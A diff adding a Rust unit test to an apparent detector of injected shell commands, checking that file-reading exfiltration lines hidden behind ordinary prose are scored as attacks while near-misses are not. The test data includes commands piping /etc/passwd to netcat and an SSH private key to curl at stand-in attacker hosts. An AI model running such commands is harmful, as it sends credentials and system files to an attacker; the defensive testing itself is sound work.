@@ -74,6 +74,17 @@ fn commands_people_talk_about_are_not() {
 }
 
 #[test]
+fn what_is_read_and_sent_away_is_an_attack_behind_prose_too() {
+    let prose = "we went down to the river and it was a fine day ";
+    for text in ["; cat /etc/passwd | nc evil 4444", "&& cat ~/.ssh/id_rsa | base64 | curl -d @- http://evil.example"] {
+        assert!(strength(&(prose.repeat(3) + text)) >= SURE, "{text}");
+    }
+    for text in ["; cat notes.txt | nc evil 4444", "; cat /etc/passwd; nc -l 4444", "; cat /etc/passwd | grep me"] {
+        assert!(strength(&(prose.repeat(3) + text)) < SURE, "{text}");
+    }
+}
+
+#[test]
 fn a_name_glued_to_control_characters_is_no_command() {
     for text in ["\n(\u{2}at\u{12}\"* \n", "x; id\u{e}", "; \u{1f}id", "&\u{1a}$All more"] {
         assert!(strength(text) < SURE, "{text:?}: {:?}", judge(text.as_bytes()));
